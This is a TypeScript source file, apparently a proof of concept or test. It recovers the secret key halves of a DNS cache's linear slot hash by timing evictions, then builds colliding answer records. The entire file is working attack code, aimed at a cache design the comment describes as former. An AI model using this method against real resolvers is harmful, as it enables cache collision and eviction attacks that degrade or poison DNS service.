// SPDX-License-Identifier: Apache-2.0
/**
 * Somebody who sends answers past the program without knowing its keys, and learns of each packet
 * whether it was copied or only counted. That is more than timing tells, which shows the same bit
 * through noise.
 *
 * The attack is on a cache whose slot is the top of a linear sum, as ctga's once was. In word 2 of
 * the RDATA, halves `low` and `high` add (low + a) * (high + b) to the sum, where a and b are
 * halves of a key. With one half fixed, the sum is linear in the other half, so the distance between
 * the places where the slot changes gives the slope, which is the fixed half plus its key. Of b - a
 * then only the last bits are left to try: (low, high) and (high + b - a, low - b + a) are twins,
 * whose sums are equal.
 */
export interface Victim {
  /** Sends `first`, `second` and `first`: was the last one copied again? */
  evicts(first: Uint8Array, second: Uint8Array): boolean;
  /** Sends two answers that were not sent before: was the second one taken for a repeat? */
  areTwins(fresh: () => readonly [Uint8Array, Uint8Array]): boolean;
}

/** How many slots the cache has. */
const SLOTS = 1024;
const HALF = 2 ** 32;
/** A slot's share of the sum's range. */
const SLOT_WIDTH = 2 ** 64 / SLOTS;
/** Word 2 of an RDATA of one string, whose length byte comes first. */
export const WORD_AT = 15;
/** Error of a slope, and so how many twins are tried to either side. */
const NEAR = 64;
const ATTEMPTS = 6;

/** The text with other halves in word 2. */
export function withWord(text: Buffer, low: number, high: number): Buffer {
  const changed = Buffer.from(text);
  changed.writeUInt32LE(low % HALF, WORD_AT);
  changed.writeUInt32LE(high % HALF, WORD_AT + 4);
  return changed;
}

/** Another text with the same sum, if `difference` is b - a. */
export function twinOf(text: Buffer, difference: number): Buffer {
  const low = text.readUInt32LE(WORD_AT);
  const high = text.readUInt32LE(WORD_AT + 4);
  return withWord(text, (high + difference) % HALF, (low - difference + HALF) % HALF);
}

export interface Recovered {
  /** What the slopes say that b - a is. */
  readonly estimate: number | undefined;
  /** b - a, once a twin has shown it. */
  readonly difference: number | undefined;
}

/** Looks for b - a of word 2. `frameOf` makes an answer with a text. */
export function recoverDifference(
  victim: Victim,
  text: Buffer,
  frameOf: (text: Buffer) => Uint8Array,
): Recovered {
  const base = { low: 0x6162_6364, high: 0x6566_6768 };
  /** The key's half that is added to the one that stays as it is. */
  const keyOf = (fixed: 'low' | 'high'): number | undefined => {
    for (let attempt = 0; attempt < ATTEMPTS; attempt++) {
      const value = (base[fixed] + attempt * 0x123_4567) % HALF;
      const frame = (other: number): Uint8Array =>
        frameOf(fixed === 'high' ? withWord(text, other, value) : withWord(text, value, other));
      const slope = slopeOf((x, y) => x === y || victim.evicts(frame(x), frame(y)));
      if (slope !== undefined) return (((slope - value) % HALF) + HALF) % HALF;
    }
    return undefined;
  };
  const [a, b] = [keyOf('low'), keyOf('high')];
  if (a === undefined || b === undefined) return { estimate: undefined, difference: undefined };
  const estimate = (b - a + HALF) % HALF;
  let made = 0;
  for (let distance = 0; distance <= NEAR; distance++)
    for (const sign of [1, -1]) {
      const difference = (estimate + sign * distance + HALF) % HALF;
      const areTwins = victim.areTwins(() => {
        const one = withWord(text, 0x3132_3300 + made++, 0x4142_4344);
        return [frameOf(one), frameOf(twinOf(one, difference))];
      });
      if (areTwins) return { estimate, difference };
    }
  return { estimate, difference: undefined };
}

type SameSlot = (x: number, y: number) => boolean;

/** The first number above `from` in another slot than it; undefined if there is none below `end`. */
function boundaryAfter(from: number, end: number, sameSlot: SameSlot): number | undefined {
  let inside = from;
  let step = 2 ** 16;
  let outside = from + step;
  for (; outside < end && sameSlot(from, outside); outside = inside + step) {
    inside = outside;
    step *= 2;
  }
  if (outside >= end) return undefined;
  while (outside - inside > 1) {
    const middle = Math.floor((inside + outside) / 2);
    if (sameSlot(from, middle)) inside = middle;
    else outside = middle;
  }
  return outside;
}

/** By how much the sum grows with each step; undefined where nothing is regular. */
function slopeOf(sameSlot: SameSlot): number | undefined {
  // Adding the key overflows once, somewhere in one of the two halves of the range.
  for (const start of [0, HALF / 2]) {
    const slope = slopeBetween(start, start + HALF / 2 - 1, sameSlot);
    if (slope !== undefined) return slope;
  }
  return undefined;
}

function slopeBetween(start: number, end: number, sameSlot: SameSlot): number | undefined {
  const first = boundaryAfter(start + 12_345, end, sameSlot);
  const second = first === undefined ? undefined : boundaryAfter(first, end, sameSlot);
  if (first === undefined || second === undefined) return undefined;
  // The boundary that is `count` slots on is found near where it should be, and says more exactly
  // how wide a slot is, so that one twice as far can be found.
  let count = 1;
  let last = second;
  for (;;) {
    const width = (last - first) / count;
    const fitting = Math.floor((end - first) / width) - 1;
    const next = Math.min(count * 2, fitting);
    if (next <= count) break;
    const expected = first + next * width;
    const found = boundaryAfter(Math.floor(expected - width / 2), end + 2 ** 26, sameSlot);
    if (found === undefined || Math.abs(found - expected) > (2 * next) / count + 4)
      return undefined;
    count = next;
    last = found;
  }
  return Math.round((SLOT_WIDTH * count) / (last - first));
}
